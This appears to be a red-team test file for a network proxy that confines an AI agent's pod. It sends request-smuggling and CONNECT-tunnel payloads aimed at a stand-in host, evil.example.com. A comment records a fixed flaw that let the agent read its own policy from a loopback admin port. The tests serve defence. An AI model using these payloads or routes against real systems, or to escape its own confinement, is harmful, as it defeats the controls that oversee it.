  let attacker: RunningHttpUpstream;
  let tlsHost: RunningHttpsUpstream;
  let secure: RunningHttpsUpstream;
  let securePlain: RunningHttpUpstream;
  const settle = barrier(() => s, () => api);

  beforeAll(async () => {
    s = await startScenario({
      slot: 32,
      namespace: uniqueNamespace('pod-redteam-env'),
      annotations: { 'agentwarden.io/capture': 'proxy-env', 'agentwarden.io/tls-origination': 'secure.example.com' },
      manifests,
      servers: async (net, caDir) => {
        dns = await startDnsServer({
          listen: [{ host: net.resolver, port: 53 }],
          hosts: { 'api.example.com': [net.hostIp(10)], 'secure.example.com': [net.hostIp(11)], 'tls.example.com': [net.hostIp(14)], 'evil.example.com': [net.hostIp(66)] },
        });
        api = await startHttpUpstream({ listen: [{ host: net.hostIp(10), port: 80 }, { host: net.hostIp(10), port: 443 }] });
        attacker = await startHttpUpstream({ listen: [{ host: net.hostIp(66), port: 80 }, { host: net.hostIp(66), port: 443 }] });
        tlsHost = await startHttpsUpstream({ listen: [{ host: net.hostIp(14), port: 443 }], names: ['tls.example.com'], caDir });
        secure = await startHttpsUpstream({ listen: [{ host: net.hostIp(11), port: 443 }], names: ['secure.example.com'], caDir });
        securePlain = await startHttpUpstream({ listen: [{ host: net.hostIp(11), port: 80 }] });
        return [() => dns.close(), () => api.close(), () => attacker.close(), () => tlsHost.close(), () => secure.close(), () => securePlain.close()];
      },
    });
  }, 180_000);

  afterAll(async () => {
    await s?.stop();
  });

  const PROXY_PORT = 15001;
  

  function expectSafe(marker: string): void {
    expect(attacker.received.map((e) => `${e.method} ${e.target}`)).toEqual([]);
    expect(securePlain.received.map((e) => `${e.method} ${e.target}`)).toEqual([]);
    const mine = api.received.filter((e) => e.target.includes(marker));
    expect(mine.filter((e) => /^\/(admin|secrets)(\/|$)/.test(decodedLowerPath(e.target))).map((e) => e.target)).toEqual([]);
    for (const e of api.received) if (header(e, 'authorization') !== undefined) expect(e.local.port).toBe(80);
  }

  it('baseline: absolute-form through the proxy is allowed with the credential', async () => {
    const r = await curl(s.pod, [`http://${H}/items/envbase`]);
    expect(r.status).toBe(200);
  });

  it.each([
    ['absolute-form allowed, Host evil, Deny path', `GET http://${H}/admin/pe1 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'pe1'],
    ['absolute-form evil, Host allowed', `GET http://evil.example.com/items/pe2 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'pe2'],
    ['CONNECT api:80 then Host evil inside', `CONNECT ${H}:80 HTTP/1.1\r\nHost: ${H}:80\r\n\r\nGET /items/pe3 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'pe3'],
    ['CONNECT api:80 then Deny path inside', `CONNECT ${H}:80 HTTP/1.1\r\nHost: ${H}:80\r\n\r\nGET /admin/pe4 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'pe4'],
    ['CONNECT api:80 then CONNECT evil inside', `CONNECT ${H}:80 HTTP/1.1\r\nHost: ${H}:80\r\n\r\nCONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\nGET /pe5 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'pe5'],
    ['CONNECT api:80 then secure inside (TLS origination)', `CONNECT ${H}:80 HTTP/1.1\r\nHost: ${H}:80\r\n\r\nGET /v1/pe6 HTTP/1.1\r\nHost: secure.example.com:80\r\n\r\n`, 'pe6'],
    ['CONNECT evil:443 (no host-level rule)', 'CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\nGET /pe7 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n', 'pe7'],
    ['CONNECT api:443 (only http rules) then plain HTTP', `CONNECT ${H}:443 HTTP/1.1\r\nHost: ${H}:443\r\n\r\nGET /admin/pe8 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'pe8'],
    ['CONNECT tls.example.com:443 Host evil', 'CONNECT tls.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\nGET /pe9 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n', 'pe9'],
    ['CONNECT with authority api:80:443', `CONNECT ${H}:80:443 HTTP/1.1\r\nHost: ${H}:80:443\r\n\r\nGET /admin/pe10 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'pe10'],
    ['CONNECT with userinfo', `CONNECT evil.example.com@${H}:80 HTTP/1.1\r\n\r\nGET /pe11 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'pe11'],
    ['websocket upgrade through the proxy', `GET http://${H}/items/pe12 HTTP/1.1\r\nHost: ${H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`, 'pe12'],
    ['CL.TE inside a CONNECT tunnel', `CONNECT ${H}:80 HTTP/1.1\r\nHost: ${H}:80\r\n\r\nGET /items/pe13 HTTP/1.1\r\nHost: ${H}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/pe13 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'pe13'],
  ])('proxy: %s', async (_n, payload, marker) => {
    const r = await raw(s, '127.0.0.1', PROXY_PORT, [payload]);
    await settle();
    expectSafe(marker);
    if (payload.startsWith('CONNECT evil') || payload.startsWith(`CONNECT ${H}:443`)) expect(statuses(r.received)[0]).not.toBe(200);
    expect(statuses(r.received)).not.toContain(101);
  });

  it('HTTP/2 extended CONNECT (websocket) through the proxy opens no undecided stream', async () => {
    const script = `
      const http2 = require('node:http2');
      const c = http2.connect('http://127.0.0.1:${PROXY_PORT}');
      c.on('error', (e) => { console.log(JSON.stringify({ status: 0, error: String(e) })); process.exit(0); });
      c.on('remoteSettings', (st) => {
        const req = c.request({ ':method': 'CONNECT', ':protocol': 'websocket', ':authority': 'evil.example.com:80', ':scheme': 'http', ':path': '/pe14' });
        req.on('response', (h) => { console.log(JSON.stringify({ status: h[':status'], settings: st })); c.close(); });
        req.on('error', (e) => { console.log(JSON.stringify({ status: 0, error: String(e), settings: st })); c.close(); });
      });
      setTimeout(() => { console.log(JSON.stringify({ status: 0, error: 'timeout' })); process.exit(0); }, 5000);
    `;
    const r = await s.pod.agent([NODE, '-e', script], 15_000);
    await settle();
    evidence('h2', { stdout: r.stdout, stderr: r.stderr.slice(0, 300) });
    expect(r.stdout).not.toMatch(/"status":200/);
    expectSafe('pe14');
  });

  it('HTTP/2 CONNECT to api:443 carrying plain HTTP for a Deny path is refused', async () => {
    const script = `
      const http2 = require('node:http2');
      const c = http2.connect('http://127.0.0.1:${PROXY_PORT}');
      c.on('error', (e) => { console.log(JSON.stringify({ status: 0, error: String(e) })); process.exit(0); });
      const req = c.request({ ':method': 'CONNECT', ':authority': '${H}:443' });
      req.on('response', (h) => { req.write('GET /admin/pe15 HTTP/1.1\\r\\nHost: ${H}\\r\\n\\r\\n'); setTimeout(() => { console.log(JSON.stringify({ status: h[':status'] })); c.close(); }, 800); });
      req.on('error', (e) => { console.log(JSON.stringify({ status: 0, error: String(e) })); c.close(); });
      setTimeout(() => { console.log(JSON.stringify({ status: 0, error: 'timeout' })); process.exit(0); }, 5000);
    `;
    const r = await s.pod.agent([NODE, '-e', script], 15_000);
    await settle();
    evidence('h2', { stdout: r.stdout, stderr: r.stderr.slice(0, 300) });
    expect(r.stdout).not.toMatch(/"status":200/);
    expectSafe('pe15');
  });

  // FINDING (fixed): with proxy-env capture there are no iptables rules, so the agent reaches the
  // sidecar's admin port on loopback; /debug/snapshot gave it the whole compiled policy of its pod.
  // It is served only with --debug-snapshot now, which the injector never sets. /metrics stays
  // readable from the pod's network in proxy-env mode (decision counts by rule; Prometheus
  // scrapes the pod IP): cooperative capture keeps nothing on the pod's network from the agent.
  it('the agent cannot read the compiled policy from the sidecar admin port on loopback', async () => {
    const snap = await curl(s.pod, ['--noproxy', '*', 'http://127.0.0.1:15021/debug/snapshot']);
    evidence('admin', { snapshot: snap.body.slice(0, 3000) });
    expect([snap.status === 200, snap.body.includes('no-admin')]).toEqual([false, false]);
    const metrics = await curl(s.pod, ['--noproxy', '*', 'http://127.0.0.1:15021/metrics']);
    expect(metrics.body).not.toContain(TOKEN);
  });

  it('finally: nothing reached the attacker, nothing in clear to the TLS-originated host', () => {
    expect(attacker.received).toEqual([]);
    expect(securePlain.received).toEqual([]);
  });
});
